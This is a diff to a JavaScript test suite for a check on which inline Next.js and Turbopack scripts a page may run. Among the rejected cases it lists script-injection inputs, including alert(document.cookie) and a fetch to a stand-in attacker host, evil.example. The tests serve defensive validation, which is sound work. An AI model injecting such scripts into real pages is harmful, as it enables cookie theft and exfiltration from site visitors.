@@ -34,12 +34,17 @@ describe('the inline scripts a page may run', () => {
     expect(trusted('self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])')).toBe(true)
     expect(trusted('(self.__next_f=self.__next_f||[]).push([0])')).toBe(true)
     expect(trusted('(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"]})')).toBe(true)
+    // After a form's server action: the start of the stream and the form's state in one script,
+    // with a `)` and what looks like a call inside the echoed text.
+    expect(trusted('(self.__next_f=self.__next_f||[]).push([0]);self.__next_f.push([2,[{"status":"error","values":{"description":"a (b);self.__next_f.push(x)"}}]])')).toBe(true)
   })
 
   it('refuses code dressed as data', () => {
     expect(trusted('self.__next_f.push([1,"x"]);alert(document.cookie)')).toBe(false)
     expect(trusted('self.__next_f.push([1,"x"],alert(1))')).toBe(false)
     expect(trusted('self.__next_f.push(alert(1))')).toBe(false)
+    expect(trusted('(self.__next_f=self.__next_f||[]).push([0]);alert(1)')).toBe(false)
+    expect(trusted('self.__next_f.push([0]);self.__next_f.push([1,"x"]);fetch("//evil.example")')).toBe(false)
     expect(trusted('alert(1)')).toBe(false)
   })
 
